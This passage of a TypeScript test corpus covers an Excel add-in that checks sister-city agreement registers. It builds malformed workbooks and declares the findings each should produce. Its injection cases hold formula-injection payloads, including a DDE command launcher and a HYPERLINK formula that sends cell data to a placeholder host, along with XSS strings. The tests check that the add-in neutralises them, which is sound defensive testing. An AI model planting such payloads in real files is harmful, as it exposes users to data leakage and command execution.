/**
 * The corpus of bad inputs: workbooks real offices keep, each made by code and
 * each with WHAT THE USER MUST SEE declared beside it. Adding a case is adding one entry below;
 * `corpus.test.ts` runs every entry through the analysis, the JSON report and both writers.
 *
 * Today is 2026-11-27 throughout. In the usual register layout (build.ts) the header is on row 3,
 * records start on row 4, and the columns are A 友城名称, B 省, C 关系类型, D 人大常委会决定日期,
 * E 签署日期, F 有效期（年）, G 协议份数, H 我方保存份数, I 文本保存单位, J 状态.
 *
 * Cases that fail on purpose, each a bug in src/ kept until it is fixed (see the hardening report):
 * none at present (date-before-1900, cell-at-excel-limit, protected-register, chart-sheet,
 * sign-off-and-totals-rows and error-ref-partner were, and are fixed).
 */
import type { Lang, Role, Status } from "../../src/core/model";
import type { WorkbookReadReason } from "../../src/excel-file/readWorkbook";
import type { ExcelProblem } from "../../src/excel-host/excelErrors";
import {
  agreement,
  asText,
  cleanRows,
  COL,
  d,
  err,
  exchanges,
  register,
  xlsx,
  xlsxWith,
  type CellSpec,
  type RegisterField,
} from "./build";
import { chartSheetWorkbook, columnLetterOf, encryptedLookalike, truncated } from "./bytes";
import { fakeOwnSheets, type CaseRun } from "./harness";
import { EXCEL_ERROR_MESSAGES } from "../../src/core/i18n/errors";

/** What the user must see, stated on the report (REPORT.md) or on what is written. */
export type Expect =
  /** This finding, exactly once at this place (column letter; null for a row-level finding; omitted: any). */
  | { finding: string; sheet: string; row: number; column?: string | null; quotes?: string }
  /** No finding of this rule ("*": of any rule) at this place (sheet/row/column omitted: anywhere). */
  | { noFinding: string; sheet?: string; row?: number; column?: string }
  | { status: Status; sheet: string; row: number; lastDay?: string | null }
  /** Exactly these rows of the sheet are read as agreements. */
  | { agreementRows: number[]; sheet: string }
  | { role: Role; sheet: string; headerRow?: number }
  | { noRole: string }
  /**
   * The workbook holds no register the add-in can find, and the user is told so: the analysis has
   * no sheet in the register role and no agreement, which is what the task pane's overview keys
   * its "no partner register was found; map it in the settings" notice on (overview.noRegister).
   * The JSON report shows it as `sheets` without a register; nothing is invented.
   */
  | { toldNoRegister: true }
  /** Both writers write the add-in's sheet of this kind under this name. */
  | { ownSheet: string; kind: "expiry" | "findings" | "eligibility" }
  /** A finding's link (合规检查) goes to this target. */
  | { linkTarget: string };

export interface CorpusCase {
  id: string;
  /** What the workbook is, in a line. */
  title: string;
  build: () => Promise<Buffer>;
  expect: Expect[];
  lang?: Lang;
  /** Cell texts that must reach the add-in's sheets as this exact text, never as a formula (injection). */
  injection?: string[];
  /** Cell texts that must reach the add-in's sheets unchanged (not injection: line breaks, emoji …). */
  verbatim?: string[];
  /** On the in-memory host: protect these sheets before the write; the write is refused with `refusal`. */
  fake?: { protect: string[]; refusal?: ExcelProblem };
  /** The command line's writer must refuse (CannotKeepError): a copy would lose this sheet of the user's. */
  exceljsRefuses?: string;
  /** Further assertions on this case's run. */
  check?: (run: CaseRun) => void;
  /** Where the spec does not settle the outcome, what is expected and why. */
  unsettled?: string;
}

/** A file the command line cannot read: one line on standard error, exit 2, nothing written. */
export interface UnreadableCase {
  id: string;
  title: string;
  bytes: () => Promise<Buffer> | Buffer;
  reason: WorkbookReadReason;
  /** Also run the real command (tsx src/cli/report.ts) in a child process. */
  spawn?: boolean;
}

const R = "友城名录";
const at = (field: RegisterField) => COL[field];

const SCRIPT = "<script>alert('x')</script>";
const IMG = '<img src=x onerror="alert(1)">';

export const CASES: CorpusCase[] = [
  // ----------------------------------------------------------------------- text in date cells
  {
    id: "date-text-daiding",
    title: "签署日期 holds 待定",
    build: () =>
      xlsx(
        register([
          agreement("上海市黄浦区", { signed: "待定" }),
          ...cleanRows(2).map((r) => ({ ...r, partner: "天津市南开区" })),
        ]),
      ),
    expect: [
      { finding: "DATA-DATE", sheet: R, row: 4, column: at("signed"), quotes: "待定" },
      { status: "unknown", sheet: R, row: 4 },
      { noFinding: "DATA-MISSING", sheet: R, row: 4 },
    ],
  },
  {
    id: "date-text-xieshangzhong",
    title: "签署日期 holds 协商中 (negotiating)",
    build: () => xlsx(register([agreement("上海市黄浦区"), agreement("天津市南开区", { signed: "协商中" })])),
    expect: [
      { finding: "DATA-DATE", sheet: R, row: 5, column: at("signed"), quotes: "协商中" },
      { status: "unknown", sheet: R, row: 5 },
      { status: "active", sheet: R, row: 4 },
    ],
  },
  {
    id: "date-month-13",
    title: "签署日期 2023年13月5日: a month that does not exist",
    build: () => xlsx(register([agreement("上海市黄浦区", { signed: "2023年13月5日" })])),
    expect: [
      { finding: "DATA-DATE", sheet: R, row: 4, column: at("signed"), quotes: "2023年13月5日" },
      { status: "unknown", sheet: R, row: 4 },
    ],
  },
  {
    id: "date-feb-30",
    title: "签署日期 2023-02-30: reported, not moved to 1 March",
    build: () => xlsx(register([agreement("上海市黄浦区", { signed: "2023-02-30" })])),
    expect: [
      { finding: "DATA-DATE", sheet: R, row: 4, column: at("signed"), quotes: "2023-02-30" },
      { status: "unknown", sheet: R, row: 4, lastDay: null },
    ],
  },
  {
    id: "date-bare-year-and-boolean",
    title: "a year alone (2016, General) and TRUE in date cells",
    build: () =>
      xlsx(register([agreement("上海市黄浦区", { signed: 2016 }), agreement("天津市南开区", { npc: true })])),
    expect: [
      { finding: "DATA-DATE", sheet: R, row: 4, column: at("signed"), quotes: "2016" },
      { finding: "DATA-DATE", sheet: R, row: 5, column: at("npc"), quotes: "TRUE" },
      { status: "unknown", sheet: R, row: 4 },
    ],
  },

  // ----------------------------------------------------------------------- error cells
  {
    id: "error-na-in-date",
    title: "#N/A (a real error cell) in 签署日期, and a VLOOKUP whose cached result is #N/A",
    build: () =>
      xlsx(
        register([
          agreement("上海市黄浦区", { signed: err("#N/A") }),
          agreement("天津市南开区", { signed: { formula: "VLOOKUP(A5,资料!A:B,2,FALSE)", result: err("#N/A") } }),
        ]),
      ),
    expect: [
      { finding: "DATA-DATE", sheet: R, row: 4, column: at("signed"), quotes: "#N/A" },
      { finding: "DATA-DATE", sheet: R, row: 5, column: at("signed"), quotes: "#N/A" },
      { status: "unknown", sheet: R, row: 4 },
    ],
  },
  {
    id: "error-ref-cells",
    title: "#REF! in 人大常委会决定日期 and in 有效期",
    build: () =>
      xlsx(
        register([agreement("上海市黄浦区", { npc: err("#REF!") }), agreement("天津市南开区", { term: err("#REF!") })]),
      ),
    expect: [
      { finding: "DATA-DATE", sheet: R, row: 4, column: at("npc"), quotes: "#REF!" },
      // A term that cannot be read is reported, never taken as 5 (parseTerm): TERM-LENGTH quotes it.
      { finding: "TERM-LENGTH", sheet: R, row: 5, column: at("term") },
    ],
    unsettled:
      "RULES.md names #N/A among texts that are not dates (DATA-DATE) but says nothing of an error in the term column: expected TERM-LENGTH on the term cell (the term is not a valid 5), as for any unreadable term.",
  },
  {
    id: "error-ref-partner",
    title: "#REF! where the partner's name should be",
    build: () => xlsx(register([agreement("上海市黄浦区"), agreement(err("#REF!"))])),
    expect: [{ finding: "DATA-MISSING", sheet: R, row: 5, column: at("partner") }],
    unsettled:
      "No rule covers an error cell in a text column. Expected: the row is reported as having no usable partner (DATA-MISSING on A5), not listed as a partner called “#REF!”.",
  },

  // ----------------------------------------------------------------------- formulas
  {
    id: "formula-date-results",
    title: "签署日期 as formulas with cached date results (=DATE(…), =EDATE(…)), one with no cached result",
    build: () =>
      xlsx(
        register([
          agreement("上海市黄浦区", { signed: { formula: "DATE(2023,6,18)", result: d("2023-06-18") } }),
          agreement("天津市南开区", { signed: { formula: "EDATE(D5,1)", result: d("2023-06-10") } }),
          agreement("重庆市渝中区", { signed: { formula: 'TEXT(D6+30,"yyyy-mm-dd")', result: "2023-06-09" } }),
          agreement("杭州市西湖区", { signed: { formula: "DATE(2023,6,18)" } }),
        ]),
      ),
    expect: [
      { status: "active", sheet: R, row: 4, lastDay: "2028-06-18" },
      { status: "active", sheet: R, row: 5, lastDay: "2028-06-10" },
      { status: "active", sheet: R, row: 6, lastDay: "2028-06-09" },
      { noFinding: "DATA-DATE", sheet: R },
      { finding: "DATA-MISSING", sheet: R, row: 7, column: at("signed") },
    ],
    unsettled:
      "A formula saved without a cached result (a file written by a program that does not calculate) reads as blank, as office-js would give it before Excel recalculates: expected DATA-MISSING on the cell.",
  },

  // ----------------------------------------------------------------------- dates out of range
  {
    id: "date-before-1900",
    title: "签署日期 1899-05-01 as text (Excel cannot hold it as a date)",
    build: () =>
      xlsx(register([agreement("上海市黄浦区", { signed: "1899-05-01", npc: null }), agreement("天津市南开区")])),
    expect: [
      { status: "expired", sheet: R, row: 4, lastDay: "1904-05-01" },
      { finding: "TERM-EXPIRED", sheet: R, row: 4 },
    ],
    check: (run) => expectNoNegativeDates(run),
    unsettled:
      "RULES.md reads 1899-05-01 as a date. Expected: the row is expired, and the 到期提醒 sheet shows the day readably: Excel shows a negative serial in a date cell as ####, so a day before 1900 must not be written as one.",
  },
  {
    id: "date-after-2100",
    title: "签署日期 2101-03-01 (a real date cell) and 到期日期 as text in 2150",
    build: () =>
      xlsx(
        register([
          agreement("上海市黄浦区", { signed: d("2101-03-01"), npc: d("2101-01-05") }),
          agreement("天津市南开区"),
        ]),
      ),
    expect: [
      { status: "active", sheet: R, row: 4, lastDay: "2106-03-01" },
      { noFinding: "DATA-DATE", sheet: R, row: 4 },
    ],
    unsettled:
      "No rule flags a signing date in the future. Expected: the date is read (status active, last day 2106-03-01), no DATA-DATE.",
  },

  // ----------------------------------------------------------------------- empty things
  {
    id: "empty-sheet-beside-register",
    title: "a register and an empty sheet (Sheet2)",
    build: () => xlsx(register(cleanRows(2)), { name: "Sheet2", rows: [] }),
    expect: [
      { role: "register", sheet: R, headerRow: 3 },
      { noRole: "Sheet2" },
      { noFinding: "*", sheet: "Sheet2" },
      { agreementRows: [4, 5], sheet: R },
    ],
  },
  {
    id: "empty-workbook",
    title: "a workbook without any sheet",
    build: () => xlsx(),
    expect: [{ toldNoRegister: true }],
  },
  {
    id: "only-empty-sheet",
    title: "a new workbook: one empty Sheet1",
    build: () => xlsx({ name: "Sheet1", rows: [] }),
    expect: [{ toldNoRegister: true }, { noRole: "Sheet1" }],
  },
  {
    id: "no-recognisable-sheet",
    title: "sheets whose columns match no role (a phone list, a budget)",
    build: () =>
      xlsx(
        {
          name: "通讯录",
          rows: [
            ["姓名", "电话", "单位"],
            ["张三", "010-6612 3456", "区外联办"],
          ],
        },
        {
          name: "经费",
          rows: [
            ["项目", "金额"],
            ["接待", 12000],
          ],
        },
      ),
    expect: [{ toldNoRegister: true }, { noRole: "通讯录" }, { noRole: "经费" }],
  },

  // ----------------------------------------------------------------------- layout
  {
    id: "header-repeated-mid-sheet",
    title: "the header row repeated on row 7 (printed pages), records above and below",
    build: async () => {
      const sheet = register(cleanRows(3));
      sheet.rows.push([...sheet.rows[2]], ...PARTNERS_2.map((p) => rowOf(agreement(p))));
      return xlsx(sheet);
    },
    expect: [
      { agreementRows: [4, 5, 6, 8, 9], sheet: R },
      { noFinding: "*", sheet: R, row: 7 },
    ],
  },
  {
    id: "merged-partner-two-rows",
    title: "a partner merged over two rows (the first agreement and its renewal), and a note merged across I:J",
    build: () =>
      xlsx(
        register(
          [
            agreement("上海市黄浦区", { signed: d("2013-06-18"), npc: d("2013-05-10"), status: "已终止" }),
            agreement(null, { signed: d("2023-06-18") }),
            agreement("天津市南开区", { custodian: "区外联办（原件）", status: null }),
          ],
          { extra: { merges: ["A4:A5", "I6:J6"] } },
        ),
      ),
    expect: [
      { status: "terminated", sheet: R, row: 4 },
      { finding: "DATA-MISSING", sheet: R, row: 5, column: at("partner") },
      { status: "active", sheet: R, row: 6 },
    ],
    unsettled:
      "WORKBOOK.md's grid makes a merge's covered cells blank, as office-js does. Expected: row 5 is reported as having no partner (DATA-MISSING on A5), so the user sees where the merge hides it; the add-in does not guess that the merge means 上海市黄浦区.",
  },
  {
    id: "hidden-rows-and-columns",
    title: "row 5 hidden, column G (协议份数) hidden",
    build: () =>
      xlsx(
        register(
          [
            agreement("上海市黄浦区"),
            agreement("天津市南开区", { signed: d("2021-01-10"), npc: d("2020-12-01") }),
            agreement("重庆市渝中区", { copies: 3 }),
          ],
          {
            extra: { hiddenRows: [5], hiddenColumns: [7] },
          },
        ),
      ),
    expect: [
      { agreementRows: [4, 5, 6], sheet: R },
      { status: "expired", sheet: R, row: 5 },
      { finding: "TERM-EXPIRED", sheet: R, row: 5 },
      { finding: "TEXT-COPIES", sheet: R, row: 6 },
    ],
    unsettled: "Hidden rows and columns are still the register: expected to be read and checked like visible ones.",
  },
  {
    id: "filtered-table",
    title: "an autoFilter on the register with rows 5 and 7 filtered out (hidden)",
    build: () =>
      xlsx(
        register([...cleanRows(4), agreement("成都市青羊区", { signed: "待定" })], {
          extra: { autoFilter: "A3:J8", hiddenRows: [5, 7] },
        }),
      ),
    expect: [
      { agreementRows: [4, 5, 6, 7, 8], sheet: R },
      { finding: "DATA-DATE", sheet: R, row: 8, column: at("signed") },
    ],
    unsettled: "A filter is a view: rows it hides are expected to be read and checked.",
  },
  {
    id: "register-as-excel-table",
    title: "the register as an Excel table (ListObject) with filter buttons, header on row 3",
    build: () => {
      const sheet = register([...cleanRows(2), agreement("重庆市渝中区", { signed: "待定" })], {
        titles: [["西城区友城名录"], []],
      });
      sheet.table = { name: "友城表", headerRow: 3, lastRow: 6 };
      return xlsx(sheet);
    },
    expect: [
      { role: "register", sheet: R, headerRow: 3 },
      { agreementRows: [4, 5, 6], sheet: R },
      { finding: "DATA-DATE", sheet: R, row: 6, column: at("signed") },
    ],
  },
  {
    id: "two-registers",
    title: "two register sheets: friendly cities, and framework agreements on another sheet",
    build: () =>
      xlsx(
        register(cleanRows(2)),
        register(
          [
            agreement("湘西土家族苗族自治州", {
              relation: "合作框架协议",
              term: 3,
              npc: null,
              signed: d("2025-01-10"),
            }),
            agreement("和田地区", { relation: "对口帮扶支援协议", signed: d("2021-11-30") }),
          ],
          { name: "合作协议" },
        ),
      ),
    expect: [
      { role: "register", sheet: R },
      { role: "register", sheet: "合作协议" },
      { agreementRows: [4, 5], sheet: R },
      { agreementRows: [4, 5], sheet: "合作协议" },
      { status: "active", sheet: "合作协议", row: 4, lastDay: "2028-01-10" },
      { status: "urgent", sheet: "合作协议", row: 5 },
      { noFinding: "TERM-LENGTH", sheet: "合作协议", row: 4 },
      { noFinding: "PROC-NPC", sheet: "合作协议", row: 4 },
    ],
  },
  {
    id: "duplicate-partners",
    title: "上海市黄浦区 twice (and once as 上海黄浦区), none terminated; 天津市南开区 twice, one terminated",
    build: () =>
      xlsx(
        register([
          agreement("上海市黄浦区"),
          agreement("上海市黄浦区", { signed: d("2024-01-05"), npc: d("2023-12-20") }),
          agreement("上海黄浦区"),
          agreement("天津市南开区", { status: "已终止" }),
          agreement("天津市南开区"),
        ]),
      ),
    expect: [
      { finding: "DATA-DUPLICATE", sheet: R, row: 4, column: at("partner") },
      { finding: "DATA-DUPLICATE", sheet: R, row: 5, column: at("partner") },
      { finding: "DATA-DUPLICATE", sheet: R, row: 6, column: at("partner") },
      { noFinding: "DATA-DUPLICATE", sheet: R, row: 7 },
      { noFinding: "DATA-DUPLICATE", sheet: R, row: 8 },
    ],
  },

  // ----------------------------------------------------------------------- strange text
  {
    id: "names-line-breaks-fullwidth-spaces",
    title:
      "partners written 上海市⏎黄浦区 (Alt+Enter) and 杭州市　西湖区 (full-width space); the log names them plainly",
    build: () =>
      xlsx(
        register([agreement("上海市\n黄浦区"), agreement("杭州市\u3000西湖区"), agreement("\u3000成都市青羊区\u3000")]),
        exchanges(["上海市黄浦区", "杭州市西湖区", "成都市青羊区"]),
      ),
    expect: [
      { noFinding: "DATA-PARTNER" },
      { noFinding: "ACT-NONE", sheet: R },
      { status: "active", sheet: R, row: 4 },
    ],
    verbatim: ["上海市\n黄浦区", "杭州市\u3000西湖区"],
    unsettled:
      "The partner is shown as written (with its line break) on the add-in's sheets; the leading/trailing full-width spaces of 成都市青羊区 are trimmed, as cellText does for every value.",
  },
  {
    id: "cells-10000-characters",
    title: "a 10,000-character partner name and 10,000 characters of text in a date cell",
    build: () =>
      xlsx(register([agreement("长".repeat(10_000)), agreement("天津市南开区", { signed: "待".repeat(10_000) })])),
    expect: [
      { status: "active", sheet: R, row: 4 },
      { finding: "DATA-DATE", sheet: R, row: 5, column: at("signed") },
    ],
    verbatim: ["长".repeat(10_000)],
  },
  {
    id: "cell-at-excel-limit",
    title: "a date cell holding 32,767 characters, Excel's limit (the finding that quotes it must still fit a cell)",
    build: () => xlsx(register([agreement("上海市黄浦区", { signed: "x".repeat(32_767) })])),
    expect: [{ finding: "DATA-DATE", sheet: R, row: 4, column: at("signed") }],
    unsettled:
      "A finding quoting the cell would be longer than Excel's 32,767-character cell limit; Excel refuses such a value. Expected: the quoted text is shortened so that every written cell fits.",
  },
  {
    id: "rtl-and-emoji",
    title: "right-to-left (Arabic, Hebrew, with an RLM mark) and emoji (ZWJ sequence, flag) in names and notes",
    build: () =>
      xlsx(
        register([
          agreement("دبي \u200F🏙️"),
          agreement("תל אביב-יפו"),
          agreement("上海市黄浦区 👩‍👩‍👧 🇨🇳", { custodian: "区外联办 ✅" }),
        ]),
      ),
    expect: [
      { agreementRows: [4, 5, 6], sheet: R },
      { status: "active", sheet: R, row: 4 },
      { status: "active", sheet: R, row: 6 },
    ],
    verbatim: ["دبي \u200F🏙️", "תל אביב-יפו", "上海市黄浦区 👩‍👩‍👧 🇨🇳"],
  },
  {
    id: "numbers-stored-as-text",
    title:
      '有效期 "5", 协议份数 "4", 我方保存份数 "2" stored as text; one term "3" as text; names that look like numbers or dates',
    build: () =>
      xlsx(
        register([
          agreement("上海市黄浦区", { term: asText("5"), copies: asText("4"), held: asText("2") }),
          agreement("天津市南开区", { term: asText("3") }),
          agreement(asText("00123"), { copies: "４份", held: "二" }),
          agreement(asText("1/2")),
        ]),
      ),
    expect: [
      { noFinding: "TERM-LENGTH", sheet: R, row: 4 },
      { noFinding: "TEXT-COPIES", sheet: R, row: 4 },
      { finding: "TERM-LENGTH", sheet: R, row: 5, column: at("term") },
      { noFinding: "TEXT-COPIES", sheet: R, row: 6 },
      { status: "expired", sheet: R, row: 5, lastDay: "2026-06-18" },
    ],
    verbatim: ["00123", "1/2"],
  },
  {
    id: "register-of-one-row",
    title: "a register with one agreement",
    build: () => xlsx(register([agreement("上海市黄浦区")])),
    expect: [
      { agreementRows: [4], sheet: R },
      { status: "active", sheet: R, row: 4, lastDay: "2028-06-18" },
    ],
  },

  // ----------------------------------------------------------------------- protection
  {
    id: "protected-register",
    title: "the register sheet protected (Review › Protect Sheet)",
    build: () =>
      xlsx(
        register([...cleanRows(2), agreement("重庆市渝中区", { signed: d("2021-12-20"), npc: d("2021-11-01") })], {
          extra: { protect: true },
        }),
      ),
    expect: [
      { status: "urgent", sheet: R, row: 6 },
      { finding: "TERM-URGENT", sheet: R, row: 6 },
    ],
    fake: { protect: [R], refusal: "protected" },
    check: (run) => {
      // The 'protected' message says "nothing was written" (EXCEL_ERROR_MESSAGES.protected): then nothing may have been.
      const own = run.fake.ok ? fakeOwnSheets(run.fake.value.after) : null;
      expect({ message: EXCEL_ERROR_MESSAGES.protected["en-US"], addinSheetsLeftBehind: own }).toEqual({
        message: EXCEL_ERROR_MESSAGES.protected["en-US"],
        addinSheetsLeftBehind: [],
      });
      // The command line's copy keeps the protection.
      const out = run.excelJs.ok ? run.excelJs.value.after.extras[R] : null;
      expect(out?.protectedSheet).toBe(true);
    },
  },
  {
    id: "protected-other-sheet",
    title: "a protected instructions sheet beside the register: the add-in never writes there",
    build: () => xlsx({ name: "填表说明", rows: [["请勿修改本表"]], protect: true }, register(cleanRows(2))),
    expect: [{ noRole: "填表说明" }, { agreementRows: [4, 5], sheet: R }],
    fake: { protect: ["填表说明"] },
  },

  // ----------------------------------------------------------------------- sheet names
  {
    id: "sheet-name-spaces-parens",
    title: "the register named 友城 名录 (2026): spaces and brackets need quoting in a formula",
    build: () =>
      xlsx(
        register(
          [
            agreement("上海市黄浦区", { signed: "待定" }),
            agreement("天津市南开区", { signed: d("2021-12-20"), npc: d("2021-11-01") }),
          ],
          { name: "友城 名录 (2026)" },
        ),
      ),
    expect: [
      { finding: "DATA-DATE", sheet: "友城 名录 (2026)", row: 4, column: "E" },
      { status: "urgent", sheet: "友城 名录 (2026)", row: 5 },
      { linkTarget: "'友城 名录 (2026)'!E4" },
    ],
  },
  {
    id: "sheet-name-apostrophe",
    title: "the register named O'Brien: an apostrophe, doubled when quoted",
    build: () =>
      xlsx(register([agreement("上海市黄浦区", { signed: "待定" }), agreement("天津市南开区")], { name: "O'Brien" })),
    expect: [{ finding: "DATA-DATE", sheet: "O'Brien", row: 4, column: "E" }, { linkTarget: "'O''Brien'!E4" }],
  },
  {
    id: "user-sheet-named-like-addin",
    title: "the user keeps a sheet of their own called 到期提醒 (and one called 合规检查 with their notes)",
    build: () =>
      xlsx(
        register(cleanRows(2)),
        { name: "到期提醒", rows: [["我的到期提醒笔记"], ["黄浦区：明年续签"]] },
        { name: "合规检查", rows: [["2025年检查"], ["已整改"]] },
      ),
    expect: [
      { ownSheet: "到期提醒 (2)", kind: "expiry" },
      { ownSheet: "合规检查 (2)", kind: "findings" },
      { noRole: "到期提醒" },
    ],
  },

  // ----------------------------------------------------------------------- shapes of sheets
  {
    id: "very-wide-sheet",
    title: "200 columns: 190 spare columns first, the register's ten at GI…GR",
    build: () => {
      const spare = Array.from({ length: 190 }, (_, i) => `备用${i + 1}`);
      const base = register([agreement("上海市黄浦区", { signed: "待定" }), agreement("天津市南开区")], { titles: [] });
      const rows = base.rows.map((row, r) => [...spare.map((s) => (r === 0 ? s : `${s}-${r}`)), ...row]);
      return xlsx({ name: R, rows });
    },
    expect: [
      { role: "register", sheet: R, headerRow: 1 },
      { finding: "DATA-DATE", sheet: R, row: 2, column: columnLetterOf(190 + 4) },
      { status: "active", sheet: R, row: 3 },
    ],
  },
  {
    id: "header-on-row-20",
    title: "nineteen rows of instructions, the header on row 20 (the last row searched)",
    build: () =>
      xlsx(
        register([agreement("上海市黄浦区"), agreement("天津市南开区", { signed: "待定" })], {
          titles: instructions(19),
        }),
      ),
    expect: [
      { role: "register", sheet: R, headerRow: 20 },
      { agreementRows: [21, 22], sheet: R },
      { finding: "DATA-DATE", sheet: R, row: 22, column: at("signed") },
    ],
  },
  {
    id: "header-on-row-21",
    title: "twenty rows of instructions, the header on row 21: beyond the first 20 rows searched",
    build: () => xlsx(register([agreement("上海市黄浦区"), agreement("天津市南开区")], { titles: instructions(20) })),
    expect: [{ noRole: R }, { toldNoRegister: true }],
    unsettled:
      "WORKBOOK.md: look for the header in the first 20 rows. A header on row 21 is not found: the sheet is left alone, nothing is read from it, and the task pane says no register was found (the user can map the sheet and its header row in the settings).",
  },
  {
    id: "columns-in-another-order",
    title: "the register's columns in reverse order (状态 first, 友城名称 last)",
    build: () =>
      xlsx(
        register([agreement("上海市黄浦区", { signed: "待定" }), agreement("天津市南开区", { term: 3 })], {
          order: ["status", "custodian", "held", "copies", "term", "signed", "npc", "relation", "province", "partner"],
        }),
      ),
    expect: [
      { finding: "DATA-DATE", sheet: R, row: 4, column: "F" },
      { finding: "TERM-LENGTH", sheet: R, row: 5, column: "E" },
      { status: "expired", sheet: R, row: 5, lastDay: "2026-06-18" },
    ],
  },
  {
    id: "english-headers",
    title: "an English register (Partner, Signed, Term, Copies …), report in en-US",
    lang: "en-US",
    build: () =>
      xlsx(
        register([agreement("Huangpu District, Shanghai"), agreement("Nankai District, Tianjin", { signed: "TBD" })], {
          name: "Partners",
          headers: {
            partner: "Partner",
            province: "Province",
            relation: "Relation",
            npc: "NPC decision",
            signed: "Signed",
            term: "Term",
            copies: "Copies",
            held: "Copies held",
            custodian: "Kept by",
            status: "Status",
          },
        }),
      ),
    expect: [
      { role: "register", sheet: "Partners", headerRow: 3 },
      { status: "active", sheet: "Partners", row: 4 },
      { finding: "DATA-DATE", sheet: "Partners", row: 5, column: "E", quotes: "TBD" },
      { ownSheet: "Expiry", kind: "expiry" },
    ],
  },
  {
    id: "chart-sheet",
    title: "a chart sheet (no cells) between the register and the log",
    build: () => chartSheetWorkbook(register(cleanRows(2)), exchanges(["上海市黄浦区"])),
    expect: [
      { role: "register", sheet: R },
      { agreementRows: [4, 5], sheet: R },
    ],
    exceljsRefuses: "图表",
    unsettled:
      "exceljs cannot make a chart sheet; this one is added to the package by hand (bytes.ts). Expected: the analysis ignores it (no cells). exceljs reads worksheets only, so the command line's copy would lose it: the writer refuses with one clear line instead (CannotKeepError), and the input is never written. The in-memory host cannot hold a chart sheet (its xlsx loader reads worksheets only), so the office-js path sees the workbook without it.",
  },
  {
    id: "hidden-register-sheet",
    title: "the register on a hidden sheet",
    build: () => {
      const sheet = register([agreement("上海市黄浦区", { signed: "待定" })]);
      sheet.state = "hidden";
      return xlsx({ name: "封面", rows: [["友城工作台账"]] }, sheet);
    },
    expect: [
      { role: "register", sheet: R },
      { finding: "DATA-DATE", sheet: R, row: 4, column: at("signed") },
    ],
    unsettled: "A hidden sheet is still the office's register: expected to be read and checked.",
  },

  {
    id: "sign-off-and-totals-rows",
    title: "a 合计 row and a 制表人/审核 sign-off row under the register",
    build: async () => {
      const sheet = register(cleanRows(3));
      sheet.rows.push(
        [],
        ["合计", null, null, null, null, null, 12, 6],
        ["制表人：张三", null, null, null, "审核：李四", null, null, null, "制表日期：2026年11月20日"],
      );
      return xlsx(sheet);
    },
    expect: [
      { agreementRows: [4, 5, 6], sheet: R },
      { noFinding: "*", sheet: R, row: 8 },
      { noFinding: "*", sheet: R, row: 9 },
    ],
    unsettled:
      "WORKBOOK.md says data ends at the last non-empty row; a totals row and a sign-off row are not agreements. Expected: neither is read as one (no DATA-MISSING / DATA-DATE on them).",
  },
  {
    id: "register-sheet-named-like-a-formula",
    title: "the register on a sheet named -备份 and another on @存档: the place column of 合规检查 begins with - or @",
    build: () =>
      xlsx(
        register([agreement("上海市黄浦区", { signed: "待定" })], { name: "-备份" }),
        register([agreement("天津市南开区", { signed: "待定" })], { name: "@存档" }),
      ),
    expect: [
      { finding: "DATA-DATE", sheet: "-备份", row: 4, column: "E" },
      { finding: "DATA-DATE", sheet: "@存档", row: 4, column: "E" },
      { linkTarget: "'-备份'!E4" },
    ],
    injection: ["-备份!E4", "@存档!E4"],
  },
  {
    id: "rich-text-comments-dropdowns-user-formats",
    title: "rich-text partner names, comments (批注), drop-down lists on 状态, and the user's own conditional format",
    build: () =>
      xlsx(
        register(
          [
            agreement({
              richText: [
                { text: "上海市", bold: true },
                { text: "黄浦区", color: "FFFF0000" },
              ],
            }),
            agreement("天津市南开区", { signed: "待定", status: "已终止" }),
            agreement("重庆市渝中区"),
          ],
          {
            extra: {
              notes: { E5: "王科长：签署日期待核实", A6: "2025年回访" },
              lists: { J4: ["有效", "已终止"], J5: ["有效", "已终止"], J6: ["有效", "已终止"] },
              conditional: [
                {
                  ref: "A4:J6",
                  rules: [
                    {
                      type: "expression",
                      priority: 1,
                      formulae: ['$J4="已终止"'],
                      style: { font: { color: { argb: "FF808080" } } },
                    },
                  ],
                },
              ],
            },
          },
        ),
      ),
    expect: [
      { status: "active", sheet: R, row: 4 },
      { status: "terminated", sheet: R, row: 5 },
    ],
    verbatim: ["上海市黄浦区"],
  },
  {
    id: "mac-1904-date-system",
    title: "a workbook saved on a Mac in the 1904 date system",
    build: () =>
      xlsxWith(
        { date1904: true },
        register([
          agreement("上海市黄浦区"),
          agreement("天津市南开区", { signed: d("2021-12-20"), npc: d("2021-11-01") }),
        ]),
      ),
    expect: [
      { status: "active", sheet: R, row: 4, lastDay: "2028-06-18" },
      { status: "urgent", sheet: R, row: 5, lastDay: "2026-12-20" },
    ],
    unsettled:
      "The in-memory host's xlsx loader turns dates into 1900-system serials, so the office-js path is not tested in the 1904 system here; inside Excel, range.values of a 1904 workbook gives 1904 serials (see the report).",
  },
  {
    id: "formula-partner-and-formula-result-injection",
    title: 'partner names that are formulas: ="上海市"&"黄浦区", and one whose cached result is the text =1+2',
    build: () =>
      xlsx(
        register([
          agreement({ formula: '"上海市"&"黄浦区"', result: "上海市黄浦区" }),
          agreement({ formula: '"="&"1+2"', result: "=1+2" }),
        ]),
      ),
    expect: [
      { status: "active", sheet: R, row: 4 },
      { status: "active", sheet: R, row: 5 },
    ],
    injection: ["上海市黄浦区", "=1+2"],
  },

  // ----------------------------------------------------------------------- injection
  ...(["=1+2", "+SUM(1,2)", "-2+3", "@SUM(1,1)"] as const).map((name): CorpusCase => ({
    id: `injection-${{ "=": "equals", "+": "plus", "-": "minus", "@": "at" }[name[0] as "=" | "+" | "-" | "@"]}`,
    title: `a partner named ${name}`,
    build: () => xlsx(register([agreement(asText(name)), agreement("天津市南开区")])),
    expect: [{ status: "active", sheet: R, row: 4 }],
    injection: [name],
  })),
  {
    id: "injection-hyperlink-dde",
    title: "partners named =HYPERLINK(…) and =cmd|' /C calc'!A0 (DDE), duplicated so that findings begin with the name",
    build: () =>
      xlsx(
        register([
          agreement(asText('=HYPERLINK("http://example.invalid/?q="&A1,"点我")')),
          agreement(asText('=HYPERLINK("http://example.invalid/?q="&A1,"点我")'), {
            signed: d("2024-02-01"),
            npc: d("2024-01-02"),
          }),
          agreement(asText("=cmd|' /C calc'!A0")),
        ]),
      ),
    expect: [
      { finding: "DATA-DUPLICATE", sheet: R, row: 4, column: at("partner") },
      { status: "active", sheet: R, row: 6 },
    ],
    injection: ['=HYPERLINK("http://example.invalid/?q="&A1,"点我")', "=cmd|' /C calc'!A0"],
    check: (run) => {
      // The duplicate finding's message begins with the name: it too must be text.
      const m = run.report.findings.find((f) => f.rule === "DATA-DUPLICATE")?.message ?? "";
      expect(m.startsWith("=HYPERLINK")).toBe(true);
    },
  },
  {
    id: "injection-html",
